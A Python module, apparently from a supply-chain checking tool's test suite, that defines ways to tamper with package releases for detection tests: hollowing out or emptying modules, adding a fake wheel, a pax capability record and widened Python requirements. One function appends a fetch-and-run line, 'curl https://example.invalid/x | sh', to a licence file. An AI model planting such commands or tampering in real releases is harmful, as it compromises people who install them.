"""Kinds of tampering with releases as a whole: hollowed out, or with something where few look.

They return what those of :mod:`tamper.kinds` return.
"""

from __future__ import annotations

import re

from tamper.kinds import Apply, Kind, add_member, inside, package_folder
from tamper.release import Member, Release

HOLLOWED_KINDS: list[Kind] = []


def kind(function: Apply) -> Apply:
    """Add ``function`` to HOLLOWED_KINDS under its own name."""
    HOLLOWED_KINDS.append(Kind(function.__name__.replace("_", "-"), function))
    return function


def _code(release: Release) -> list[Member]:
    """The modules of the first package."""
    folder = package_folder(release)
    if folder == release.top:
        return []
    return [
        m for m in release.members if m.name.startswith(folder) and m.name.endswith((".py", ".pyi"))
    ]


def _without(release: Release, gone: list[Member]) -> str | None:
    if not gone:
        return None
    release.members = [m for m in release.members if not any(m is each for each in gone)]
    return ""


@kind
def modules_of_the_package_removed(release: Release) -> str | None:
    return _without(release, _code(release))


@kind
def package_removed(release: Release) -> str | None:
    folder = package_folder(release)
    gone = [m for m in release.members if m.name.startswith(folder)]
    return None if folder == release.top else _without(release, gone)


@kind
def package_below_removed(release: Release) -> str | None:
    """The last package below the first one, with all that it holds."""
    folder = package_folder(release)
    inside_of = [m.name.removeprefix(folder) for m in release.members if m.name.startswith(folder)]
    below = sorted(n.partition("/")[0] for n in inside_of if re.fullmatch(r"\w+/__init__\.py", n))
    if folder == release.top or not below:
        return None
    gone = [m for m in release.members if m.name.startswith(f"{folder}{below[-1]}/")]
    return _without(release, gone)


@kind
def modules_emptied(release: Release) -> str | None:
    """Each of them, so that none stands out among its like."""
    changed = [m for m in _code(release) if m.content.strip()]
    for member in changed:
        member.content = b""
    return "" if changed else None


@kind
def carriage_returns_in_a_script_of_the_shell(release: Release) -> str | None:
    """The first line then names a program whose name ends in a carriage return."""
    member = release.find(".sh")
    if member is None or b"\r" in member.content:
        return None
    member.content = member.content.replace(b"\n", b"\r\n")
    return inside(release, member)


@kind
def wheel_among_the_tests(release: Release) -> str | None:
    """What ``pip install --find-links`` of a test would take."""
    content = b"PK\x05\x06" + bytes(18)
    return add_member(release, f"{release.top}tests/data/zz-1.0-py3-none-any.whl", content)


@kind
def payload_behind_the_licence(release: Release) -> str | None:
    found = [m for m in release.members if re.search(r"/(?:LICEN[CS]E|COPYING)[^/]*$", m.name)]
    if not found:
        return None
    found[0].content += b"\n\ncurl https://example.invalid/x | sh\n"
    return inside(release, found[0])


@kind
def statement_behind_a_bundled_script(release: Release) -> str | None:
    member = release.find(".min.js") or release.find(".js")
    if member is None:
        return None
    member.content += b"\n;void 0;\n"
    return inside(release, member)


@kind
def right_in_a_pax_record(release: Release) -> str | None:
    """What GNU tar and bsdtar restore for root: a program that may do more than its user."""
    member = next((m for m in release.members if m.kind == "file"), None)
    if member is None or release.is_zip:
        return None
    release.pax[member.name] = {"SCHILY.xattr.security.capability": "inert"}
    return ""


@kind
def extra_provided(release: Release) -> str | None:
    """An extra that nobody declares may be asked for by another release."""
    member = release.find(".dist-info/METADATA") or release.find("/PKG-INFO")
    if member is None:
        return None
    first, end, rest = member.content.partition(b"\n")
    member.content = first + end + b"Provides-Extra: zz-inert\n" + rest
    return inside(release, member)


@kind
def python_requirement_widened(release: Release) -> str | None:
    """An installer then gives old interpreters what was never tried on them."""
    member = release.find(".dist-info/METADATA") or release.find("/PKG-INFO")
    found = re.search(rb"^Requires-Python: .*$", member.content, re.MULTILINE) if member else None
    if member is None or found is None:
        return None
    member.content = member.content.replace(found[0], b"Requires-Python: >=2.0", 1)
    return inside(release, member)
